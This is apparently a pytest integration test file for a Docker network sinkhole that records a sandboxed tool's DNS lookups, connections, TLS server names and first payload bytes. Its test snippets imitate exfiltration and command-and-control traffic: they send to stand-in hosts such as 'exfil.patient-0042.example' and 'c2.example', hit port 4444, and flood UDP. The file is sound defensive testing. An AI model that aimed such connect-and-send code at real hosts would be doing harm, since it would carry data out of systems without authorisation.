"""What a tool reaches for is seen, goes nowhere, and is never mistaken for nothing when it was not looked at."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from pratique.errors import CouldNotDecide
from sandbox.launcher import Launcher
from sandbox.record import EndedBy, Observed

if TYPE_CHECKING:
    from tests.integration.sandbox.conftest import Sandboxed

pytestmark = pytest.mark.docker
SINKHOLE = {"network": "sinkhole"}


def test_names_addresses_ports_and_first_bytes_are_written_down(sandboxed: Sandboxed) -> None:
    """By name, by address, over IPv4 and IPv6, to ports that listen and to ports that do not."""
    outcome = sandboxed(
        """
        import socket
        def call(family, address, port, data):
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(3)
                try:
                    s.connect((address, port)); s.sendall(data); print(s.recv(64)[:12])
                except OSError as error:
                    print(type(error).__name__)
        address = socket.gethostbyname("exfil.patient-0042.example")
        call(socket.AF_INET, address, 80, b"GET /x HTTP/1.1\\r\\nHost: exfil.patient-0042.example\\r\\n\\r\\n")
        call(socket.AF_INET, "203.0.113.7", 4444, b"PATIENT-0042")
        call(socket.AF_INET6, "2001:db8::7", 31337, b"")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"PATIENT-0042", ("198.51.100.9", 9999))
        """,
        spec=SINKHOLE,
    )
    run = outcome.run
    seen = {(one.kind.value, one.address, one.port) for one in run.observations}
    assert run.observed is Observed.COMPLETE
    assert {("tcp", "203.0.113.7", 4444), ("tcp", "2001:db8::7", 31337), ("udp", "198.51.100.9", 9999)} <= seen
    assert "exfil.patient-0042.example" in {one.name for one in run.observations if one.kind == "dns"}
    payloads = {(one.name, one.port): one.detail for one in run.observations if one.kind == "payload"}
    assert payloads["exfil.patient-0042.example", 80].startswith("GET /x HTTP/1.1")
    assert payloads["", 4444] == "PATIENT-0042"
    assert outcome.lines[0] == "b'HTTP/1.1 200'"


def test_the_server_name_of_a_tls_connection_is_written_down(sandboxed: Sandboxed) -> None:
    """Read from the ClientHello; no certificate is offered."""
    outcome = sandboxed(
        """
        import socket, ssl
        context = ssl._create_unverified_context()
        try:
            context.wrap_socket(socket.create_connection(("203.0.113.8", 443), 3), server_hostname="c2.example")
        except OSError as error:
            print(type(error).__name__)
        """,
        spec=SINKHOLE,
    )
    assert "c2.example" in {one.name for one in outcome.run.observations if one.kind == "payload"}


def test_a_quiet_tool_is_known_to_be_quiet(sandboxed: Sandboxed) -> None:
    """Only where the observation was complete."""
    quiet = sandboxed("print('quiet')", spec=SINKHOLE).run
    assert (quiet.observed, quiet.observations) == (Observed.COMPLETE, ())
    unobserved = sandboxed("print('quiet')").run
    assert (unobserved.observed, unobserved.observations) == (Observed.NOT_ASKED, ())


def test_a_tool_cannot_take_the_sinkhole_over(sandboxed: Sandboxed) -> None:
    """It sees no process of it, holds no port of it, and a flood makes the record partial, never empty."""
    outcome = sandboxed(
        """
        import os, socket
        print(sorted(int(p) for p in os.listdir("/proc") if p.isdigit())[-1] < 50)
        for port in (53, 80):
            try:
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(("203.0.113.1", port))
                print("bound", port)
            except PermissionError:
                print("no")
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for number in range(12_000):
            try:
                s.sendto(b"x", (f"203.0.{number >> 8 & 255}.{number & 255}", 1000 + number))
            except OSError:
                pass
        """,
        spec=SINKHOLE,
    )
    assert outcome.lines == ["True", "no", "no"]
    assert outcome.run.observed is Observed.PARTIAL
    assert len(outcome.run.observations) >= 1000
    assert outcome.run.observed_detail


def test_where_it_cannot_be_observed_nothing_is_run(
    sandboxed: Sandboxed, launcher: Launcher, monkeypatch: pytest.MonkeyPatch
) -> None:
    """And the record says that observation was impossible."""

    def none(*_: object) -> str:
        raise CouldNotDecide("no helper image", next_step="Make one.")

    monkeypatch.setattr("sandbox.observe.sinkhole.ensure_helper_image", none)
    run = sandboxed("print('ran')", spec=SINKHOLE).run
    assert (run.ended_by, run.observed) == (EndedBy.NOT_STARTED, Observed.IMPOSSIBLE)
